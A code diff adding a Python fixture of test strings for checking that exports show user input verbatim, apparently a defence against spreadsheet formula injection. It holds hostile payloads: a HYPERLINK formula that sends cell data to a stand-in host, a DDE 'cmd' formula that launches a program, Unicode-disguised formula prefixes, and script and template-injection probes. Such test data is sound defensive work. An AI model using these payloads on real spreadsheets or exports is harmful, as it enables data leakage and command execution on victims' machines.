@@ -1,0 +1,55 @@
+"""Words that programs like to misunderstand; every sink must show them as they were typed."""
+
+from __future__ import annotations
+
+
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "=cmd|'/c calc'!A1",
+    "+44 7700 900123",
+    "-2+3",
+    "- a list",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(1)",
+    "'=1+1",
+    "''=1+1",
+)
+HARMLESS = (
+    "Understood mine and my child's needs.",
+    "'quoted'",
+    '"quoted"',
+    "a;=1+1",
+    "a,=1+1",
+    "line one\nline two",
+    "#REF!",
+    "#N/A",
+    "TRUE",
+    "007",
+    "1e5",
+    "2024-03-05",
+    "http://x.example/",
+    "mailto:a@b.example",
+    "<script>alert(1)</script>",
+    "![b](http://x.example/b.png)",
+    "{{7*7}} ${7*7} %s",
+    "_x000D_ and _x0041_",
+    "_x000D_\nand _x005F_x000D_",
+    "\u202eright to left",
+    "\U0001f469\u200d\U0001f469\u200d\U0001f476 family",
+    "\u0645\u0631\u062d\u0628\u0627",
+    "e\u0301",
+    "\u2028",
+    " leading and trailing ",
+)
+EVERY = FORMULAS + HARMLESS
